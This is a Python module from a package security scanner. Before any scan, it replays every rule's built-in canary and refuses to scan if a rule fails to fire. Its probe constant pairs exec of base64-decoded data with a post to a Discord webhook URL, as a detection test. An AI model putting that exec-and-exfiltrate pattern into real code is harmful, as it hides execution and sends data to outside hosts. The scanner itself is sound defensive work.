"""The scanner's self-check: every rule must fire on its built-in canary before any scan.

Issue 4: "check once that a built-in canary file fires every rule; refuse to
scan if one does not". The scanner's verdict "clean" means "no rule fired",
so a rule engine that silently stops matching (google-re2 returning no match
on an internal error, a set compiled empty, a rule table entry lost in a
refactoring) would turn every scan into a pass. Before the first scan of a
process, :func:`self_check` therefore scans the ``bad`` spelling of every
rule's canonical example (:mod:`caplet._scan._examples`) and checks that its
rule fires; for threat rules it also checks that the package-mode prefilter
lets the canary through to the AST pass (a prefilter that answers "nothing
here" would skip exactly the files that matter). Any miss is a
:class:`ScanError`, and the outcome is kept for the life of the process.

A pass is also remembered across processes for the exact code, interpreter
and regex engine that passed (:mod:`caplet._scan._checkcache`), so that a
``caplet scan`` does not spend a quarter of its start-up (issue 16) proving
again what the last one proved. What the fingerprint cannot see, an engine
that stops answering in this process, is probed in every process
(:func:`engine_answers`: the compiled sets must find a threat in a line
holding one); a probe that fails runs the full replay, which names the rules.

The canaries are replayed in memory, through the same per-file path
``scan_tree`` uses (``_Collector``), not through ``scan_source``/``scan_tree``
themselves: those call :func:`self_check`, and the check must not recurse
into itself. Nothing touches the disk, so examples that only exist on disk
(symlinks, paths longer than PATH_MAX, archives read from a file) are left
out; their rules are decided by the operating system and the archive
reader, not by a matcher, and the tests check them on real files.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from typing import TYPE_CHECKING, Final

from caplet._errors import ScanError
from caplet._scan import _checkcache, _collect
from caplet._scan._indicators import indicator_set
from caplet._scan._prefilter import Need, prefilter
from caplet._scan._rules import RULES, RuleKind

if TYPE_CHECKING:
    from caplet._findings import Finding
    from caplet._scan._examples import RuleExample

__all__ = ["engine_answers", "self_check"]


class _State:
    """The process-wide outcome; ``lock`` serialises the one run."""

    __slots__ = ("done", "failure", "lock", "running")

    def __init__(self) -> None:
        self.done = False
        self.failure: str | None = None
        # Re-entrant, so that a scan started by the check itself (none today)
        # would pass through instead of deadlocking.
        self.lock = threading.RLock()
        self.running = False


_STATE = _State()

#: Threats found by a text rule that runs on every file, prefiltered or not
#: (bidirectional controls are looked for before the prefilter is asked).
_UNGATED: Final = frozenset({"CPL-THR-012"})


def self_check() -> None:
    """Refuse to scan (``ScanError``) unless every rule fires on its canary; runs once.

    Thread-safe: the first caller runs the check, concurrent callers wait
    for it, and later calls only read the kept outcome.
    """
    state = _STATE
    if not state.done:
        with state.lock:
            if not state.done and not state.running:
                state.running = True
                try:
                    state.failure = _outcome()
                finally:
                    state.running = False
                state.done = True
    if state.failure is not None:
        raise ScanError(state.failure)


def _reset() -> None:
    """Forget the outcome, so that the next scan checks again (tests only)."""
    with _STATE.lock:
        _STATE.done = False
        _STATE.failure = None


#: A line every engine that answers sees threats in: exec of decoded data (a prefilter
#: pair) and a Discord webhook (an exfiltration indicator, a solo pattern): a hit for
#: each of the prefilter's sets, and for the indicators'.
_PROBE: Final = 'exec(b64decode(x)); post("https://discord.com/api/webhooks/1/a")'


def engine_answers() -> bool:
    """True when the compiled sets of this process find the threats in :data:`_PROBE`.

    A fingerprint names the engine's files, not what it does in this process;
    a blind set (no match on an internal error) fails here and gets the full
    replay, cached pass or not.
    """
    try:
        indicators = indicator_set()
        filter_ = prefilter()
        return (
            filter_.engine_answers(_PROBE)
            and filter_.check(_PROBE) is not Need.NOTHING
            and bool(indicators.matches(_PROBE))
            and indicators.gate(_PROBE)
        )
    except Exception:  # an engine that raises does not answer: the replay reports it
        return False


def _outcome() -> str | None:
    """The replay's answer, or a pass remembered for this fingerprint (module docstring)."""
    key = _checkcache.fingerprint()
    if key is not None and engine_answers() and _checkcache.remembered(key):
        return None
    failure = _failure()
    if failure is None and key is not None:
        _checkcache.remember(key)
    return failure


def _failure() -> str | None:
    """The error message when a canary misses, ``None`` when every rule fired."""
    # Imported on the first scan, not with the scanner: building the
    # examples (archives included) is only worth it when a scan runs.
    from caplet._scan._examples import CANONICAL

    missed: list[str] = []
    skipped: list[str] = []
    for item in CANONICAL:
        if item.disk_only:
            continue
        if item.rule_id not in {f.rule_id for f in _replay(item)}:
            missed.append(item.rule_id)
        elif not _passes_prefilter(item):
            skipped.append(item.rule_id)
    failed = missed + skipped
    if not failed:
        return None
    several = len(failed) > 1
    subject = ("rules " if several else "rule ") + ", ".join(failed)
    canary = "their built-in canaries" if several else "its built-in canary"
    detail = f" (the package-mode prefilter skipped {', '.join(skipped)})" if skipped else ""
    return (
        f"scanner self-check failed: {subject} did not fire on {canary}{detail}; "
        "the rule engine is broken (a regex engine returning no match on an internal "
        "error must not pass as clean); reinstall caplet or report a bug"
    )


def _passes_prefilter(item: RuleExample) -> bool:
    """A threat's source canary (and alias) must reach the AST pass in package mode."""
    if item.is_tree or item.rule_id in _UNGATED or RULES[item.rule_id].kind is not RuleKind.THREAT:
        return True
    texts = [item.bad] if item.alias is None else [item.bad, item.alias]
    return all(prefilter().check(text) is not Need.NOTHING for text in texts)


def _replay(item: RuleExample) -> Iterator[Finding]:
    """Findings of ``item.bad``, scanned in memory the way ``scan_tree`` scans a file."""
    max_file_bytes = item.max_file_bytes or _collect.DEFAULT_MAX_FILE_BYTES
    limits = _collect.Limits(max_file_bytes, _collect.DEFAULT_MAX_DEPTH, _collect.DEFAULT_MAX_NODES)
    tree = item.files or ((item.filename, item.bad.encode("utf-8", "surrogatepass")),)
    paths = [path for path, _ in tree]
    collector = _collect.Collector(
        item.capabilities,
        item.mode,
        limits,
        _collect.local_modules(paths),
        _collect.installers(paths),
    )
    for path, data in tree:
        if not isinstance(data, bytes):
            continue  # a link: disk_only examples are not replayed
        if not _collect.wanted(path):
            collector.note_name(path)
        else:
            # scan_tree reads a file over the limit only as its size (in plugin mode)
            collector.add(path, data if len(data) <= max_file_bytes else len(data))
    return iter(collector.report("<self-check>").findings)
